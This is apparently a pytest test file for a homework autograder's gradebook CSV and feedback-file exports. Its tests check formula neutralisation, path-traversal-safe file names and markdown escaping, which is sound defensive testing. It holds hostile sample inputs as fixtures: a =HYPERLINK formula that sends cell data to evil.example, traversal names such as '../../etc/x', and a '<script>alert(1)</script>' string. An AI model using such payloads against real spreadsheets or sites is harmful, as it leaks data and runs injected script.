"""Gradebook CSVs and feedback files, parsed back: the right students, numbers, headers, and no formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from grader.engine.grading import Grader
from grader.export.feedback import feedback_markdown, write_feedback
from grader.export.gradebook import blackboard_csv, canvas_csv, class_csv, safe_cell
from grader.intake import StudentResult, grade_intake, read_inputs
from tests.intake_fixtures import blackboard_entries, example, write_zip

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click") Mallory'


@pytest.fixture(scope="module")
def results(grader: Grader, tmp_path_factory: pytest.TempPathFactory) -> list[StudentResult]:
    entries = blackboard_entries("Homework 5", [
        ("jdoe", "Jane Doe", "2023-04-02-23-58-01", {"layers.py": example("correct")}),
        ("asmith", "Adam Smith", "2023-04-02-12-00-00", {"layers.py": example("grad_b_keepdims")}),
        ("bnone", "Bea None", "2023-04-02-13-00-00", {}),
        ("mallory", EVIL_NAME, "2023-04-02-14-00-00", {"layers.py": example("syntax_error")}),
    ])
    path = write_zip(tmp_path_factory.mktemp("bb") / "class.zip", entries)
    return grade_intake(grader, read_inputs([path]))


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\r=x", "'\r=x"), ("-1", "-1"), ("+2.5", "+2.5"), ("plain", "plain"), (7.0, 7), (8.5, 8.5), (None, ""),
])
def test_safe_cell_neutralizes_formulas_and_keeps_numbers(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def test_class_csv_has_one_row_per_student(results: list[StudentResult], grader: Grader) -> None:
    rows = parse(class_csv(results, grader.assignment.rubric))
    header, body = rows[0], {row[0]: row for row in rows[1:]}
    assert header[:3] == ["student", "name", "total"]
    assert header[3:7] == ["P1 Fully-connected layer", "P2 ReLU", "P3 Softmax loss", "P4 L2 regularization"]
    assert header[7:] == ["status", "late", "summary"]
    assert sorted(body) == ["asmith", "bnone", "jdoe", "mallory"]
    assert body["jdoe"][1:8] == ["Jane Doe", "10", "3", "2", "3", "2", "graded"]
    assert body["jdoe"][9] == "all checks passed"
    assert body["asmith"][2:7] == ["9", "2", "2", "3", "2"]
    assert "P1 grad_b" in body["asmith"][9]
    assert body["bnone"][2:8] == ["", "", "", "", "", "no_files"]
    assert "no file attached" in body["bnone"][9]
    assert body["mallory"][1] == "'" + EVIL_NAME
    assert "syntax error" in body["mallory"][9]


def test_blackboard_upload_is_keyed_by_username_with_the_column_id(results: list[StudentResult]) -> None:
    text = blackboard_csv(results, assignment="Homework 5", max_score=10, column_id="123456")
    # Blackboard: each column of a comma-delimited file "must be contained within a quote character"
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())
    rows = parse(text)
    assert rows[0] == ["Last Name", "First Name", "Username", "Homework 5 [Total Pts: 10 Score] |123456"]
    body = {row[2]: row for row in rows[1:]}
    assert body["jdoe"] == ["Doe", "Jane", "jdoe", "10"]
    assert body["asmith"][3] == "9"
    assert body["bnone"][3] == ""  # a blank leaves the Grade Center cell alone
    assert body["mallory"][3] == "0"
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    rows = parse(blackboard_csv(results, assignment="HW5", max_score=10, missing_as_zero=True))
    assert rows[0][3] == "HW5 [Total Pts: 10 Score]"
    assert {row[2]: row[3] for row in rows[1:]}["bnone"] == "0"


def test_canvas_import_has_the_gradebook_columns(results: list[StudentResult]) -> None:
    rows = parse(canvas_csv(results, assignment="Homework 5", max_score=10, assignment_id="98765"))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Homework 5 (98765)"]
    assert rows[1] == ["Points Possible", "", "", "", "", "10"]
    body = {row[1]: row for row in rows[2:]}
    assert body["jdoe"] == ["Jane Doe", "jdoe", "", "", "", "10"]
    assert body["asmith"][5] == "9"
    assert body["bnone"][5] == ""
    assert body["mallory"][0].startswith("'=")


def test_feedback_files_explain_each_students_score(results: list[StudentResult], tmp_path: Path) -> None:
    folder = tmp_path / "feedback"
    assert write_feedback(results, folder, title="Homework 5") == 4
    assert sorted(p.name for p in folder.iterdir()) == ["asmith.md", "bnone.md", "jdoe.md", "mallory.md"]
    asmith = (folder / "asmith.md").read_text()
    assert "**Score:** 9 / 10" in asmith
    assert "grad_b has shape (1, 5); expected (5,)" in asmith
    assert "Hint: grad_b must have shape (Dout,)" in asmith
    bnone = (folder / "bnone.md").read_text()
    assert "not graded" in bnone and "no file attached" in bnone

    archive_path = tmp_path / "out" / "feedback.zip"
    write_feedback(results, archive_path, title="Homework 5")
    with zipfile.ZipFile(archive_path) as archive:
        assert sorted(archive.namelist()) == ["asmith.md", "bnone.md", "jdoe.md", "mallory.md"]
        assert archive.read("jdoe.md").decode() == (folder / "jdoe.md").read_text()


def test_feedback_file_names_keep_every_script_and_name_canvas_ids(results: list[StudentResult],
                                                                   tmp_path: Path) -> None:
    """A TA matches files to students: letters of any script are kept (once 李雷 and 王芳 became
    student.md and student-2.md), and a bare number (a Canvas user id) gets the student's name."""
    template = results[0]
    students = [("李雷", None), ("José Núñez", None), ("101237", "Smith, John")]
    named = [StudentResult(**{**template.__dict__, "key": key, "name": name}) for key, name in students]
    write_feedback(named, tmp_path / "fb", title="HW")
    assert sorted(p.name for p in (tmp_path / "fb").iterdir()) == ["José_Núñez.md", "Smith_John_101237.md", "李雷.md"]


def test_feedback_file_names_cannot_escape_the_folder(results: list[StudentResult], tmp_path: Path) -> None:
    template = results[0]
    hostile = [StudentResult(**{**template.__dict__, "key": key}) for key in ("../../etc/x", "/abs", "a/b", "..")]
    write_feedback(hostile, tmp_path / "fb", title="HW")
    assert sorted(p.name for p in (tmp_path / "fb").iterdir()) == ["a_b.md", "abs.md", "etc_x.md", "student.md"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fb"]


def test_feedback_escapes_markdown_from_student_messages(results: list[StudentResult]) -> None:
    mallory = next(r for r in results if r.key == "mallory")
    assert mallory.report is not None
    report = mallory.report.model_copy(deep=True)
    report.errors = ["NameError: <script>alert(1)</script> [click](http://evil.example) `x`"]
    text = feedback_markdown(StudentResult(**{**mallory.__dict__, "report": report}), title="HW")
    assert "\\<script\\>" in text and "\\[click\\]" in text and "\\`x\\`" in text
    assert "<script>" not in text
